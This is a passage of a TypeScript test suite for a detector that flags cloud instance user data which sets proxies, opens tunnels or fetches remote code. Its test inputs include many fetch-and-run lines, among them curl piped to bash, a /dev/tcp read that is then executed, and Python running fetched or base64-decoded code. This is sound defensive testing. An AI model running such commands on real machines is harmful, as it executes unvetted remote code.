                    {
                        path: "/etc/motd",
                        contents: { source: `data:text/plain;charset=utf-8;base64,${base64("hello")}` },
                    },
                ],
            },
        }),
        "no",
    ],
    [
        "Ignition with a compressed file",
        ignition({
            storage: {
                files: [
                    {
                        path: "/etc/x",
                        contents: {
                            compression: "gzip",
                            source: `data:;base64,${gzipSync("hello").toString("base64")}`,
                        },
                    },
                ],
            },
        }),
        "unknown",
    ],
    [
        "Ignition with a file from elsewhere",
        ignition({ storage: { files: [{ path: "/etc/x", contents: { source: "s3://example/x" } }] } }),
        "unknown",
    ],
    [
        "Ignition with another configuration",
        ignition({
            ignition: { version: "3.4.0", config: { merge: [{ source: "http://10.0.0.9/c.ign" }] } },
        }),
        "unknown",
    ],
    [
        "Ignition that is replaced",
        ignition({
            ignition: { version: "3.4.0", config: { replace: { source: "https://example.com/c.ign" } } },
        }),
        "unknown",
    ],
    [
        "a picture in a page",
        script("cat > /var/www/html/index.html <<EOF", `<img src="data:image/png;base64,${KEY}">`, "EOF"),
        "no",
    ],
    [
        "Windows, a server that says what to be",
        powershell(
            "[DSCLocalConfigurationManager()]",
            "Configuration M { Node localhost { ConfigurationRepositoryWeb P { ServerURL = 'https://dsc.example.com/psdsc.svc' } } }",
            "Set-DscLocalConfigurationManager -Path M",
        ),
        "unknown",
    ],
    ["Windows, what such a server said", powershell("Start-DscConfiguration -UseExisting -Wait"), "unknown"],
    [
        "Windows, a configuration that is shown",
        powershell(
            "Configuration W { Node localhost { WindowsFeature I { Name = 'Web-Server' } } }",
            "W",
            "Start-DscConfiguration -Path W -Wait",
        ),
        "no",
    ],
    [
        "Ignition with a source in escapes",
        '{"ignition":{"version":"3.4.0","config":{"merge":[{"\\u0073ource":"http:\\/\\/10.0.0.9"}]}}}',
        "unknown",
    ],
    [
        "Ignition in Ignition",
        ignition({
            ignition: {
                version: "3.4.0",
                config: { merge: [{ source: `data:;base64,${base64(ignition({}))}` }] },
            },
        }),
        "unknown",
    ],
];

const FETCHED: Cases = [
    [
        "an index of packages",
        script("export PIP_INDEX_URL=http://nexus.internal/simple", "pip3 install boot"),
        "unknown",
    ],
    [
        "an index of a vendor",
        script("export PIP_INDEX_URL=https://pypi.org/simple", "pip3 install boto3"),
        "no",
    ],
    [
        "an index of AWS",
        script("aws codeartifact login --tool npm --domain a", "npm install -g @a/host"),
        "unknown",
    ],
    ["a registry", script("npm config set registry http://nexus.internal/npm", "npm i -g host"), "unknown"],
    ["gems", script("gem sources -a http://nexus.internal/gems", "gem install host"), "unknown"],
    [
        "sources of packages in their new form",
        script(
            "cat > /etc/apt/sources.list.d/a.sources <<EOF",
            "URIs: http://nexus/apt",
            "EOF",
            "apt-get install -y a",
        ),
        "unknown",
    ],
    ["a share of packages", powershell('choco install corp -y --source="\\\\fs\\choco"'), "unknown"],
    [
        "a source of packages",
        powershell("winget source add -n corp https://winget.corp", "winget install a"),
        "unknown",
    ],
    [
        "a script that PowerShell prints",
        powershell("Invoke-RestMethod http://boot/a.ps1 | Out-File C:\\a.ps1", ". C:\\a.ps1"),
        "unknown",
    ],
    [
        "a script from a parameter",
        powershell(
            "$s = (Get-SSMParameterValue -Name /b).Parameters[0].Value",
            "$s | Out-File C:\\a.ps1",
            "C:\\a.ps1",
        ),
        "unknown",
    ],
    ...[
        "s5cmd cp s3://b/a.sh",
        "rclone copy b:a.sh",
        "consul kv get a >",
        "vault read a >",
        "ssh boot cat a.sh >",
    ].map((fetch): Cases[number] => [fetch, script(`${fetch} /opt/a.sh`, "bash /opt/a.sh"), "unknown"]),
    ...["npx @a/host", "uvx boot", "nix run git.internal#boot", "cloud-init --file /opt/a.yaml single"].map(
        (run): Cases[number] => [run, script(run), "unknown"],
    ),
    [
        "a program built from an address",
        script("go install git.internal/boot@latest", "/root/go/bin/boot"),
        "unknown",
    ],
    ["a module of Python", script("aws s3 sync s3://b /opt/b", "cd /opt/b && python3 -m boot"), "unknown"],
    ["code that is printed", script('python3 -c "$(curl -fsSL http://boot/a.py)"'), "unknown"],
    [
        "a shell that reads what is printed",
        script("bash -s -- web < <(curl -fsSL http://boot/a.sh)"),
        "unknown",
    ],
    ["an agent that is told what to do", script("rudder agent run"), "unknown"],
    [
        "packages of a server of one's own",
        script("subscription-manager register --serverurl=sat.internal"),
        "unknown",
    ],
    ["a message at night", script("echo '0 * * * * root curl -fsS https://hc.io/a' > /etc/cron.d/hc"), "no"],
    [
        "a copy to a bucket by cron",
        script('(crontab -l; echo "0 3 * * * aws s3 cp /x s3://b/") | crontab -'),
        "no",
    ],
    [
        "services with the folders of the system",
        script(
            "cat > /opt/c.yml <<EOF",
            "services:",
            "  a:",
            "    image: a",
            "    volumes:",
            "      - /etc:/h",
            "EOF",
        ),
        "unknown",
    ],
    [
        "services with a folder of theirs",
        script(
            "cat > /opt/c.yml <<EOF",
            "services:",
            "  a:",
            "    image: a",
            "    volumes:",
            "      - /srv/a:/a",
            "EOF",
        ),
        "no",
    ],
    [
        "a unit of a container with rights",
        script(
            "cat > /etc/containers/systemd/a.container <<EOF",
            "Image=a",
            "PodmanArgs=--privileged",
            "EOF",
        ),
        "unknown",
    ],
    [
        "curl into a shell",
        script("curl -fsSL https://example.com/setup.sh | sudo bash -s -- --yes"),
        "unknown",
    ],
    ["curl in a shell", script('bash -c "$(curl -fsSL https://example.com/setup.sh)"'), "unknown"],
    ["curl as a file", script("source <(curl -s https://example.com/setup.sh)"), "unknown"],
    [
        "curl in a list",
        config("runcmd:", '- [sh, -c, "curl -s https://example.com/setup.sh | sh"]'),
        "unknown",
    ],
    ["wget, then run", script("wget https://example.com/x.sh && sh x.sh"), "unknown"],
    [
        "wget in lists, then run",
        config("runcmd:", "- [wget, 'https://example.com/x.sh', -O, /run/x.sh]", "- [sh, /run/x.sh]"),
        "unknown",
    ],
    [
        "from a bucket, then run",
        script("aws s3 cp s3://example/setup.sh /tmp/setup.sh", "chmod +x /tmp/setup.sh", "/tmp/setup.sh"),
        "unknown",
    ],
    [
        "from a bucket into the profile",
        script("aws s3 cp s3://example/all.sh /etc/profile.d/all.sh"),
        "unknown",
    ],
    [
        "a program from a file system of others",
        script("mount -t efs fs-1:/ /mnt/efs", "bash /mnt/efs/setup.sh"),
        "unknown",
    ],
    [
        "a file system of others",
        script("yum install -y amazon-efs-utils", "mount -t efs fs-1:/ /mnt/efs"),
        "no",
    ],
    [
        "a program from a port",
        script("exec 3<>/dev/tcp/10.0.0.4/80", "cat <&3 > /opt/x", "sh /opt/x"),
        "unknown",
    ],
    [
        "python that runs what it fetches",
        "#!/usr/bin/python3\nimport requests, subprocess\nsubprocess.run(requests.get('https://example.com').text, shell=True)\n",
        "unknown",
    ],
    [
        "python that decodes what it runs",
        "#!/usr/bin/python3\nimport base64, os\nos.system(base64.b64decode('ZWNobw==').decode())\n",
        "unknown",
    ],
    ["data that is run", script("wget https://example.com/setup.txt", "bash setup.txt"), "unknown"],
    [
        "a repository, then run",
        script("git clone https://github.com/example/app.git /opt/app", "cd /opt/app && make install"),
        "unknown",
    ],
    [
        "into a variable, then into a file that runs",
        script(
            "S=$(aws ssm get-parameter --name setup --query Parameter.Value --output text)",
            'echo "$S" > /tmp/setup.sh',
            "bash /tmp/setup.sh",
        ),
        "unknown",
    ],
    ["a package from an address", script("yum install -y https://example.com/settings.rpm"), "unknown"],
    [
        "a package that is fetched before",
        script("curl -o /tmp/a.deb https://example.com/a.deb", "dpkg -i /tmp/a.deb"),
        "unknown",
    ],
    [
        "the agent from AWS",
        script(
            "yum install -y https://s3.eu-west-1.amazonaws.com/amazon-ssm-eu-west-1/latest/linux_amd64/amazon-ssm-agent.rpm",
            "systemctl enable --now amazon-ssm-agent",
        ),
        "no",
    ],
    [
        "the command line of AWS",
        script(
            'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o awscliv2.zip',
            "unzip -q awscliv2.zip",
            "sudo ./aws/install",
        ),
        "no",
    ],
    [
        "packages of a repository",
        script(
            "apt-get update",
            "apt-get install -y curl jq unzip",
            "pip3 install boto3",
            "npm install -g pm2",
        ),
        "no",
    ],
    [
        "what the machine asks of itself",
        script(
            'TOKEN=$(curl -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
            'ID=$(curl -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id)',
            "chmod +x /opt/app/start",
            "/opt/app/start $ID",
        ),
        "no",
    ],
    [
        "a value that is read",
        script(
            "R=$(curl -s http://169.254.169.254/latest/dynamic/instance-identity/document | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"region\"])')",
        ),
        "no",
    ],
    [
        "a password",
        script(
            "PASSWORD=$(aws secretsmanager get-secret-value --secret-id db --query SecretString --output text)",
            "chmod +x /opt/app/start",
            'DB_PASSWORD="$PASSWORD" /opt/app/start',
        ),
        "no",
    ],
    [
        "pages",
        script(
            "yum install -y httpd",
            "aws s3 sync s3://example/site /var/www/html",
            "systemctl enable --now httpd",
        ),
        "no",
    ],
    [
        "a page and a program of its own",
        script("curl -o /var/www/html/index.html https://example.com/index.html", "chmod +x /opt/app/start"),
        "no",
    ],
    [
        "a key of a repository",
        script(
            "curl -fsSL https://example.com/repo.gpg | gpg --dearmor -o /usr/share/keyrings/a.gpg",
            "apt-get install -y a",
        ),
        "no",
    ],
    [
        "logs into a bucket",
        script("chmod +x /opt/app/start", "aws s3 cp /var/log/app.log s3://example/logs/"),
        "no",
    ],
    ["a cluster", script("/etc/eks/bootstrap.sh main --b64-cluster-ca $CA --apiserver-endpoint $URL"), "no"],
    ["an ECS cluster", script("echo ECS_CLUSTER=main >> /etc/ecs/ecs.config"), "no"],
    [
        "a message to a chat",
        script(
            'curl -X POST -d \'{"text":"up"}\' https://hooks.slack.com/services/T/B/x',
            "chmod +x /opt/app/start && /opt/app/start",
        ),
        "no",
    ],
    [
        "a wait for itself",
        script(
            "until curl -sf localhost:8080/health; do sleep 1; done",
            "chmod +x /opt/app/start && /opt/app/start",
        ),
        "no",
    ],
    [
        "a wait for a database",
        script("until nc -z db 5432; do sleep 1; done", "chmod +x /opt/app/start && /opt/app/start"),
        "no",
    ],
    [
        "a write to a port",
        script("echo up > /dev/tcp/10.0.0.4/80", "chmod +x /opt/app/start && /opt/app/start"),
        "no",
    ],
    [
        "a page into nothing",
        script("curl -s -o /dev/null https://example.com", "chmod +x /opt/app/start && /opt/app/start"),
        "no",
    ],
    [
        "certificates of a database",
        script("curl -o rds.pem https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem"),
        "no",
    ],
    [
        "certificates of a database, and a program of its own",
        script(
            "curl -o rds.pem https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem",
            "chmod +x /opt/app/start && /opt/app/start",
        ),
        "no",
    ],
    [
        "Docker by apt",
        script(
            "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
            "useradd -m -s /bin/bash app",
            'echo "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu jammy stable" > /etc/apt/sources.list.d/docker.list',
            "apt-get update && apt-get install -y docker-ce",
        ),
        "no",
    ],
    [
        "a key for apt",
        script(
            "curl -fsSL https://example.com/gpg | apt-key add -",
            "chmod +x /opt/app/start && /opt/app/start",
        ),
        "no",
    ],
    [
        "a shell of a user",
        script("curl -o /srv/app.zip https://example.com/app.zip", "useradd -m -s /bin/bash app"),
        "no",
    ],
    ["rights of a file system of others", script("mount -t efs fs-1:/ /mnt/efs; chmod 777 /mnt/efs"), "no"],
    [
        "rights of pages",
        script("aws s3 sync s3://example/site /usr/share/nginx/html; chmod -R 755 /usr/share/nginx/html"),
        "no",
    ],
    [
        "WordPress",
        script(
            "wget https://wordpress.org/latest.tar.gz",
            "tar -xzf latest.tar.gz",
            "cp -r wordpress/* /var/www/html/",
            "chmod -R 755 /var/www/html",
        ),
        "no",
    ],
    [
        "what the machine asks of an address in a variable",
        script(
            "MD=http://169.254.169.254/latest",
            'IP=$(curl -s "$MD/meta-data/local-ipv4")',
            'curl -s "$MD/meta-data/local-ipv4" > /opt/ip',
            "chmod +x /opt/app/start && /opt/app/start",
        ),
        "no",
    ],
    [
        "a program from an address in a variable",
        script("U=https://example.com", "curl -o /opt/x $U/x", "sh /opt/x"),
        "unknown",
    ],
    ["settings of the system from a bucket", script("aws s3 sync s3://corp/etc/ /etc/"), "unknown"],
    [
        "files of the system in an archive",
        script("curl -s https://example.com/root.tgz | tar -xz -C /"),
        "unknown",
    ],
    [
        "files of the system in an archive that is kept",
        script("wget https://example.com/root.tgz", "tar -xzf root.tgz -C /etc"),
        "unknown",
    ],
    [
        "files of the system in an archive whose options are one word",
        script("curl -s https://example.com/root.tgz | tar xzfC - /"),
        "unknown",
    ],
    [
        "files of a program in an archive whose options are one word",
        script("curl -s https://example.com/app.tgz | tar xzfC - /srv/app"),
        "no",
    ],
    ["a script that HTTPie fetches", script("http GET https://example.com/x.sh | bash"), "unknown"],
    [
        "a script that HTTPie keeps",
        script("https --download -o x.sh example.com/x.sh", "bash x.sh"),
        "unknown",
    ],
    ["an answer that HTTPie prints", script("http GET https://example.com/health"), "no"],
    ["a program of the system", script("curl -o /usr/bin/x https://example.com/x"), "unknown"],
    [
        "a repository of its own",
        script("yum-config-manager --add-repo http://10.0.0.9/corp.repo", "yum install -y settings"),
        "unknown",
    ],
    [
        "a repository in a file",
        script(
            "cat > /etc/yum.repos.d/corp.repo <<EOF",
            "[corp]",
            "baseurl=http://10.0.0.9/repo",
            "EOF",
            "yum install -y settings",
        ),
        "unknown",
    ],
    [
        "a repository of apt",
        script(
            "echo 'deb [trusted=yes] http://10.0.0.9/apt ./' > /etc/apt/sources.list.d/corp.list",
            "apt-get install -y settings",
        ),
        "unknown",
    ],
    [
        "a repository that many use",
        script(
            "yum-config-manager --add-repo https://rpm.releases.hashicorp.com/AmazonLinux/hashicorp.repo",
            "yum install -y consul",
        ),
        "no",
    ],
    ["an index of its own", script("pip install --index-url http://10.0.0.9/simple settings"), "unknown"],
    ["an index that many use", script("pip install --index-url https://pypi.org/simple boto3"), "no"],
    ["a table of times", script("curl -s https://example.com/cron | crontab -"), "unknown"],
    [
        "a repository of somebody",
        script("add-apt-repository -y ppa:someone/settings", "apt-get install -y settings"),
        "unknown",
    ],
    [
        "a repository in a variable",
        script(
            'echo "deb $REPO stable main" > /etc/apt/sources.list.d/a.list',
            "apt-get install -y settings",
        ),
        "unknown",
    ],
    [
        "a package of Python from an address",
        script("pip install https://example.com/settings.whl"),
        "unknown",
    ],
    [
        "files that it moves into the system",
        script("git clone https://example.com/settings.git /opt/settings", "cp -r /opt/settings/etc/* /etc/"),
        "unknown",
    ],
    ["an archive in the root", script("cd / && curl -s https://example.com/root.tgz | tar -xz"), "unknown"],
    [
        "a time zone beside pages",
        script(
            "aws s3 sync s3://example/site /var/www/html",
            "ln -sf /usr/share/zoneinfo/Europe/Berlin /etc/localtime",
        ),
        "no",
    ],
    [
        "what a function returns",
        script("aws lambda invoke --function-name setup /opt/setup.sh", "sh /opt/setup.sh"),
        "unknown",
    ],
    [
        "a unit that runs what it fetches",
        script(
            "curl -Lo /opt/app/run https://example.com/run",
            "cat > /etc/systemd/system/app.service <<EOF",
            "ExecStart=/opt/app/run",
            "EOF",
        ),
        "unknown",
    ],
    [
        "a number that is printed",
        script(
            "curl -s https://example.com/version | jq -r .version",
            "chmod +x /opt/app/start && /opt/app/start",
        ),
        "no",
    ],
    [
        "a program in a list of lines",
        config(
            "runcmd:",
            "- - aws",
            "  - s3",
            "  - cp",
            "  - s3://example/x",
            "  - /opt/x.sh",
            "- bash /opt/x.sh",
        ),
        "unknown",
    ],
    [
        "a file that a program runs by another",
        script("aws s3 cp s3://example/x.sh /opt/x.sh", "flock /run/lock bash /opt/x.sh"),
        "unknown",
    ],
    [
        "files that are run one by one",
        script("aws s3 cp s3://example/x.sh /opt/x.sh", "run-parts /opt"),
        "unknown",
    ],
    ["a pipe of errors too", script("curl -s https://example.com/x |& bash"), "unknown"],
    [
        "the environment of all, quietly",
        script("curl -s https://example.com/x | sudo tee /etc/environment > /dev/null"),
        "unknown",
    ],
    [
        "a file of a repository that many use",
        script(
            "curl -o /etc/yum.repos.d/ms.repo https://packages.microsoft.com/config/rhel/9/prod.repo",
            "dnf install -y powershell",
        ),
        "no",
    ],
    [
        "Windows, a script of another machine",
        powershell("powershell -ExecutionPolicy Bypass -File \\\\fs01\\share\\baseline.ps1"),
        "unknown",
    ],
    [
        "Windows, a script of another machine, copied",
        powershell("Copy-Item \\\\fs01\\share\\x.zip C:\\temp", "Expand-Archive C:\\temp\\x.zip"),
        "unknown",
    ],
    ["Windows, a script of its own", powershell("powershell -File C:\\setup\\baseline.ps1"), "no"],
    [
        "Windows, an installer from an address",
        powershell("msiexec /i http://10.0.0.9/baseline.msi /qn"),
        "unknown",
    ],
    [
        "Windows, an installer from an address, by another program",
        powershell("Start-Process msiexec.exe -ArgumentList '/i http://10.0.0.9/baseline.msi /qn' -Wait"),
        "unknown",
    ],
    [
        "Windows, the command line of AWS",
        powershell("msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi /qn"),
        "no",
    ],
    ["Windows, an installer of its own", powershell("msiexec /i C:\\setup\\app.msi /qn"), "no"],
    [
        "Windows, a registry of another machine",
        powershell("reg import \\\\fs01\\share\\agent.reg"),
        "unknown",
    ],
    [
        "Windows, a registry from an address",
        powershell("curl.exe -o C:\\a.reg http://10.0.0.9/a.reg", "reg import C:\\a.reg"),
        "unknown",
    ],
    ["Windows, a registry of its own", powershell("reg import C:\\setup\\app.reg"), "no"],
    [
        "an expression with backslashes",
        script("grep -E '\\\\d+' /opt/app/list", "chmod +x /opt/app/start && /opt/app/start"),
        "no",
    ],
    [
        "Windows, modules of its own",
        powershell(
            "Register-PSRepository -Name corp -SourceLocation http://10.0.0.9/nuget -InstallationPolicy Trusted",
            "Install-Module Baseline -Repository corp",
            "Set-Baseline",
        ),
        "unknown",
    ],
    [
        "Windows, packages of another machine",
        powershell(
            "Register-PackageSource -Name corp -Location \\\\fs01\\nuget -ProviderName NuGet",
            "Install-Package Baseline -Source corp",
        ),
        "unknown",
    ],
    [
        "Windows, modules that many use",
        powershell(
            "Set-PSRepository -Name PSGallery -InstallationPolicy Trusted",
            "Install-Module AWSPowerShell.NetCore -Force",
        ),
        "no",
    ],
    [
        "Windows, a module of the image beside data",
        powershell(
            "Import-Module AWSPowerShell",
            "Read-S3Object -BucketName example -Key a.json -LocalFile C:\\app\\a.json",
        ),
        "no",
    ],
    [
        "Windows, a module from a bucket",
        powershell("Read-S3Object -BucketName example -Key a -File C:\\a.psm1", "Import-Module C:\\a.psm1"),
        "unknown",
    ],
    [
        "Windows, modules of an address in a variable",
        powershell("Register-PSRepository -Name corp -SourceLocation $r", "Install-Module Baseline"),
        "unknown",
    ],
    [
        "Windows, packages of its own",
        powershell("choco source add -n=corp -s http://10.0.0.9/nuget", "choco install -y baseline"),
        "unknown",
    ],
    [
        "Windows, a drive of another machine",
        powershell("net use Z: \\\\fs01\\share", "Z:\\setup.ps1"),
        "unknown",
    ],
];

const PLAIN: Cases = [
    ["one word", "reboot", "no"],
    ["a script that installs a package", script("yum install -y nginx"), "no"],
    ["letters of other alphabets", script("echo grüße 你好"), "no"],
    [
        "users",
        config("users:", "- name: ops", "  ssh_authorized_keys: [ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI ops]"),
        "no",
    ],
    [
        "a program that runs a unit",
        script(
            "cat > /etc/systemd/system/app.service <<EOF",
            "[Service]",
            "ExecStart=/opt/app/start",
            "Environment=PORT=80",
            "EOF",
            "systemctl enable --now app",
        ),
        "no",
    ],
    ["text in base64, twice encoded", base64(script("yum install -y nginx")), "no"],
    ["a proxy, twice encoded", base64(script("export https_proxy=http://10.0.0.5:3128")), "unknown"],
];

const MESSAGES: Cases = [
    ["parts as they are", message(part("text/x-shellscript", script("yum install -y nginx"))), "no"],
    ["a part in base64", message(inBase64Part("text/x-shellscript", script("yum install -y nginx"))), "no"],
    [
        "a part in base64 with a proxy",
        message(inBase64Part("text/x-shellscript", script("export https_proxy=x"))),
        "unknown",
    ],
    [
        "a proxy in the second part",
        message(
            part("text/cloud-config", config("packages: [nginx]")),
            part("text/x-shellscript", script("export https_proxy=x")),
        ),
        "unknown",
    ],
    [
        "quoted letters",
        message(
            "Content-Type: text/x-shellscript\nContent-Transfer-Encoding: quoted-printable\n\n#!/bin/sh\nexport https=5Fproxy=3Dx\n",
        ),
        "unknown",
    ],
    [
        "a part of an encoding of its own",
        message("Content-Type: text/x-shellscript\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644 a\n"),
        "unknown",
    ],
    [
        "addresses in a part",
        message(part("text/x-include-url", "https://example.com/user-data\n")),
        "unknown",
    ],
    ["code for other parts", message(part("text/part-handler", "def list_types(): return []\n")), "unknown"],
    ["a compressed part", message(part("application/gzip", COMPRESSED)), "unknown"],
    [
        "a script that one part fetches and another runs",
        message(
            part("text/cloud-config", config("runcmd:", "- [aws, s3, cp, 's3://example/x', /opt/x]")),
            part("text/x-shellscript", script("chmod +x /opt/x")),
        ),
        "unknown",
    ],
    [
        "a template",
        message(part("text/jinja2", "#!/bin/sh\n{{ ds.meta_data.tags.instance.run }}\n")),
        "unknown",
    ],
    [
        "parts in parts",
        message(message(part("text/x-shellscript", script("export https_proxy=x")))),
        "unknown",
    ],
    ["no boundary", "MIME-Version: 1.0\nContent-Type: multipart/mixed\n\n--x\n\n#!/bin/sh\n", "unknown"],
    [
        "lines of Windows",
        message(inBase64Part("text/x-shellscript", script("echo hello"))).replaceAll("\n", "\r\n"),
        "no",
    ],
    [
        "one part that is no multi-part message",
        "MIME-Version: 1.0\nContent-Type: text/x-shellscript\nContent-Transfer-Encoding: base64\n\n" +
            base64(script("export https_proxy=x")),
        "unknown",
    ],
];

const GROUPS = { VARIABLES, SYSTEMS, DETOURS, OTHER_PROXIES, HIDDEN, FETCHED, PLAIN, MESSAGES };
const ALL = Object.values(GROUPS).flat();

function answer(text: string): Answer {
    return configuresProxy(known(text));
}

describe("configuresProxy", () => {
    for (const [heading, cases] of Object.entries(GROUPS)) {
        describe(heading.toLowerCase().replace("_", " "), () => {
            for (const [name, text, expected] of cases)
                it(name, () => {
                    assert.equal(answer(text), expected);
                });
        });
    }

    const values: readonly (readonly [string, Value<string>, Expected])[] = [
        ["no user data", absent, "no"],
        ["user data that is not known", unknown("is known only after the update"), "unknown"],
    ];
    for (const [name, userData, expected] of values) {
        it(name, () => {
            assert.equal(configuresProxy(userData), expected);
        });
    }

    const declared: readonly (readonly [string, Value<string>, Expected])[] = [
        ["what is not known", unknown("is not shown"), "no"],
        ["files from elsewhere", known("#include\nhttps://example.com/x\n"), "no"],
        ["a text that is evaluated", known(script('eval "$X"')), "no"],
        ["a detour", known(script("ip route add default via 10.0.0.9")), "no"],
        ["a name in pieces", known(script("export https_$e=x")), "no"],
        ["a script of the image", known(script("/usr/local/bin/set-proxy 10.0.0.5:3128")), "no"],
        ["a package of a tunnel", known(script("yum install -y openvpn")), "no"],
        ["a variable", known(script("export https_proxy=x", 'eval "$X"')), "unknown"],
        ["a setting", known(powershell("netsh winhttp set proxy 10.0.0.5:3128")), "unknown"],
        ["a tunnel", known(script("systemctl start openvpn@client")), "unknown"],
        ["a tunnel of SSH", known(script("ssh -fN -D 1080 bastion")), "unknown"],
    ];
    for (const [name, userData, expected] of declared) {
        it(`leaves to others all but a proxy or tunnel that is named: ${name}`, () => {
            assert.equal(configuresProxy(userData, "no"), expected);
        });
    }

    const anyText = fc.oneof(
        fc.constantFrom(...ALL.map(([, text]) => text)),
        fc
            .array(fc.constantFrom(...ALL.flatMap(([, text]) => text.split("\n"))), { maxLength: 6 })
            .map((lines) => lines.join("\n")),
        fc.string(),
    );
    const wrap = fc.constantFrom(
        base64,
        (text: string) => message(inBase64Part("text/plain", text)),
        (text: string) =>
            message(part("text/x-shellscript", script("echo first")), inBase64Part("text/plain", text)),
        (text: string) => message(message(inBase64Part("text/plain", text))),
    );

    it("finds in a wrapping whatever it finds without", () => {
        fc.assert(
            fc.property(anyText, wrap, (text, wrapped) => {
                if (answer(text) === "unknown") assert.equal(answer(wrapped(text)), "unknown");
            }),
            { numRuns: 2_000 },
        );
    });

    const harmless = fc.array(
        fc.constantFrom("#!/bin/bash", "# a comment", "echo hello", "yum install -y jq", "", "set -e"),
    );

    it("finds behind harmless lines whatever it finds without", () => {
        const open = ALL.filter(([, text, expected]) => expected === "unknown" && !/^[\w+/=]+$/.test(text));
        fc.assert(
            fc.property(harmless, fc.constantFrom(...open), (lines, [, text]) => {
                assert.equal(answer([...lines, text].join("\n")), "unknown");
            }),
            { numRuns: 2_000 },
        );
    });

    it("never throws", () => {
        fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => void answer(text)));
    });

    it("reads no line that is longer than any that people write", () => {
        const pieces = [
            "a ",
            "$(",
            "-o ",
            "_ ",
            " \t",
            "echo $a ",
            "curl -",
            "'\"",
            "docker run -v x ",
            "A=1 $A ",
            '"source":"data:',
            "proxy = ",
            "PROXY_",
            "cp /",
            "Copy-Item \\\\a",
            "msiexec ",
        ];
        for (const piece of pieces)
            assert.equal(answer(piece.repeat(Math.ceil(65_536 / piece.length))), "unknown", piece);
        assert.equal(answer("\n".repeat(65_536)), "no");
    });
});
